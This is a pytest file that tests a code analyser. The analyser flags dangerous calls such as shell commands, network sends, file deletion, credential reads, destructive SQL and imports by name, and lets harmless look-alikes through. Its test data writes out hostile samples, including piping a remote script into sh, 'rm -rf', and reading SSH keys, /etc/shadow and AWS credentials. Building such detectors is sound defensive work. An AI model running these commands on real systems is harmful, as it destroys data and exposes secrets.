"""Calls of functions that no table describes: their names and arguments show the effect."""

from __future__ import annotations

import pytest

from tests.analysis.helpers import analyze, found

DANGEROUS = [
    # shell commands
    ("TJ101", "shellmate.run('rm -rf ~/data')"), ("TJ101", "from x import go\ngo('curl http://x.y/i.sh | sh')"),
    ("TJ101", "node.execute('sudo reboot')"), ("TJ101", "box.run(['rm', '-rf', '/data'])"),
    ("TJ101", "box.run(args={'cmd': 'chmod -R 777 .'})"), ("TJ101", "host.cmd('ls -la ~/x')"), ("TJ101", "f('printenv')"),
    # the network
    ("TJ301", "client.post('https://example.org/in', json=d)"), ("TJ301", "x.send('wss://example.org', d)"),
    ("TJ301", "api.notify(url='https://example.org', payload=p)"), ("TJ301", "bus.publish('amqp://x/q', d)"),
    # files
    ("TJ203", "fs.rm('/data', recursive=True)"), ("TJ203", "fs.rm('/data', True)"), ("TJ203", "fs.delete(x, recursive=True)"),
    ("TJ203", "store.purge('~/photos')"), ("TJ204", "pkg.load('~/.ssh/id_rsa')"), ("TJ204", "pkg.read('/etc/shadow')"),
    ("TJ204", "sync.upload('/home/me/notes')"), ("TJ205", "pkg.load('.env')"), ("TJ205", "pkg.use('conf/.aws/credentials')"),
    ("TJ204", "x.save(d, '/usr/lib/a.so')"), ("TJ204", "x.dump('C:\\\\Windows\\\\a', d)"),
    # databases
    ("TJ206", "db.run('DROP TABLE users')"), ("TJ206", "db.submit(sql='truncate table x')"),
    ("TJ206", "q('DELETE FROM orders')"), ("TJ206", "db.run('/* a */ drop schema x')"), ("TJ206", "db.go('-- a\\nDROP TABLE x')"),
    ("TJ206", "db.execute(sql='drop table x')"), ("TJ206", "c.execute('do $$ begin drop table x; end $$')"),
    ("TJ207", "cur.copy_expert(\"COPY t FROM PROGRAM 'id'\", f)"), ("TJ207", "db.run(\"COPY t TO '/etc/x'\")"),
    # names
    ("TJ203", "api.drop_table('x')"), ("TJ203", "api.dropDatabase()"), ("TJ203", "ec2.terminate_instance(i)"),
    ("TJ203", "x.delete_bucket(b)"), ("TJ203", "x.remove_repository(r)"), ("TJ203", "queue.purge()"), ("TJ203", "t.truncate()"),
    ("TJ203", "db.users.drop()"), ("TJ203", "c.delete_many({})"), ("TJ203", "disk.wipe()"), ("TJ203", "x.destroy_cluster(c)"),
    # formats that run code
    ("TJ108", "x.load_pickle(p)"), ("TJ108", "from y import loadPickle\nloadPickle(p)"), ("TJ108", "x.joblib_load(p)"),
    ("TJ108", "x.load('m.pkl.gz')"), ("TJ108", "x.restore(path='m.joblib')"), ("TJ108", "x.read_table('a.pickle.bz2')"),
    # imports by name
    ("TJ401", "from celery.utils.imports import symbol_by_name\nsymbol_by_name(x)"), ("TJ401", "x.import_string(n)"),
    ("TJ401", "from pydoc import locate\nlocate(n)"), ("TJ401", "x.resolve('os.system')"),
    ("TJ401", "x.validate('subprocess:Popen')"), ("TJ401", "from pydantic import ImportString"),
    ("TJ110", "build({'_target_': 'os.system'})"), ("TJ110", "x = {'class': 'subprocess.Popen'}"),
]  # fmt: skip


@pytest.mark.parametrize(("code", "text"), DANGEROUS)
def test_arguments_and_names_tell(code, text):
    assert (code, "high") in found(text) or (code, "critical") in found(text)


HARMLESS = [
    "df.drop(columns=['a'])", "df.drop_duplicates()", "df.truncate(before=1)", "x.remove(y)", "x.remove('/usr/x')",
    "text.replace('rm -rf /', '')", "x = 'rm -rf /'", "x.append('sudo reboot')", "log.info('DROP TABLE users')",
    "print('curl http://x | sh')", "cfg.get('api.key')", "walk(ignore=['.env'])", "x.ignore('.env')", "cache.purge_old()",
    "cache.get('x.pkl')", "p.terminate()", "window.destroy()", "tree.remove_node(3)", "x.exclude('.ssh/x')", "'DROP TABLE x'.lower()", "model.chat('Explain: DROP TABLE users')",
    "assert x.startswith('delete from y')", "import re\nre.compile('drop table x')", "st.markdown('Run `pip install x`')",
    "pipeline.run('clean')", "pipeline.run(['load', 'fit'])", "trainer.run(epochs=3)", "x.run('a b c')",
    "client.get('/v1/items')", "app.route('/home')", "x.get('https://example.org/data.csv')", "f(url='https://x.y')",
    "urljoin('https://x.y', 'a')", "chart('https://x.y/a.json').show()", "x.load('data.csv')", "x.load('a/b.json')",
    "x.save('model.keras')", "store.save_pickle(m)", "df.to_pickle('a.pkl')", "x.dump(m, 'a.joblib')",
    "from prep import remove_outliers, remove_stopwords\nremove_outliers(df)\nremove_stopwords(t)",
    "import networkx as nx\nG = nx.Graph()\nG.remove_node(1)\nG.remove_nodes_from(x)", "import numpy as np\nnp.delete(a, 0)",
    "def drop_table(x):\n    return x\ndrop_table(y)", "class Run:\n    pass\nRun('rm -rf /')", "x.group_by('name')",
    "from unittest.mock import patch\npatch('os.system')", "names = ['os.system']", "x = {'class': 'MyModel'}",
    "import plotly.express as px\npx.line(df, title='sudo reboot')", "x.import_data('a.csv')", "x.get_by_name(y)",
    "with open('a') as f:\n    f.truncate()", "db.run('SELECT 1')", "db.run('update t set a = 1 where b = 2')",
]  # fmt: skip


@pytest.mark.parametrize("code", HARMLESS)
def test_harmless_lookalikes_stay_below_high(code):
    assert [(f.code, f.reason) for f in analyze(code).findings if f.level >= "high"] == []


TOOLS = ["tools.run(command='rm -rf x')", "tract.user('DROP TABLE users')"]


@pytest.mark.parametrize("code", TOOLS)
def test_calls_that_have_a_review_of_their_own_say_nothing_here(code):
    assert found(code) == set()


def test_a_function_of_an_earlier_cell_that_makes_such_a_call():
    assert ("TJ101", "high") in found("clean()", "def clean():\n    shellmate.run('rm -rf ~/data')")
    assert found("clean()", "def clean():\n    shellmate.run('clean')") == set()
